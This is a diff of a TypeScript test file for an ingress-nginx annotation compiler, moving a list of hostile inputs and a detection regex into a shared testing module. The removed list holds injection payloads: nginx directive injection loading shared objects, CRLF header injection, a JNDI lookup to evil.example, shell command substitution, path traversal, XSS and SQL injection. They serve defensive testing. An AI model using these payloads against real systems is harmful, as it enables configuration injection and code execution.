@@ -1,5 +1,6 @@
 import type { Ingress } from '@spout/kube'
 import { describe, expect, test } from 'vitest'
+import { DIRECTIVES, HOSTILE } from '../../../../connector/src/testing/hostile-texts.ts'
 import { NGINX_ANNOTATIONS, NGINX_PREFIX } from '../ingress-nginx/registry.ts'
 import { answer, compiled, problemsOf, routesOf } from '../testing/compiled.ts'
 import { backend, ingress, rule } from '../testing/objects.ts'
@@ -12,31 +13,6 @@ const withAnnotations = (annotations: Readonly<Record<string, string>>): Ingress
     { rules: [rule('a.example /x Prefix web')] },
     Object.fromEntries(Object.entries(annotations).map(([name, value]) => [`${NGINX_PREFIX}${name}`, value])),
   )
-
-/** Text that ends a token, a line, a block or a command somewhere, and what would be loaded then. */
-const HOSTILE = [
-  'x;\nload_module /proc/self/fd/7;\n',
-  'x"; }\n}\nssl_engine /tmp/evil.so;\nhttp { server {',
-  'x\r\nHost: evil.example\r\n\r\n',
-  'x\0y',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what others would expand.
-  '${jndi:ldap://evil.example}',
-  '$(touch /tmp/x)',
-  '`id`',
-  'x;set maxconn global 7',
-  '{{ .Values }}',
-  '../../etc/passwd',
-  '\u202eevil',
-  '\ud800',
-  'a'.repeat(100_000),
-  '(a+)+'.repeat(300),
-  '__proto__',
-  '%00%0a%0d',
-  '<script>alert(1)</script>',
-  "' or 1=1 --",
-]
-/** What of the text must not be in the load balancer, however it is written there. */
-const DIRECTIVES = /load_module|ssl_engine|[\0\r\n]|\\u0000|\\[rn]/
 
 /** The other Ingress is served as without the hostile one, and no directive got through. */
 function expectHarmless(hostile: Ingress): void {
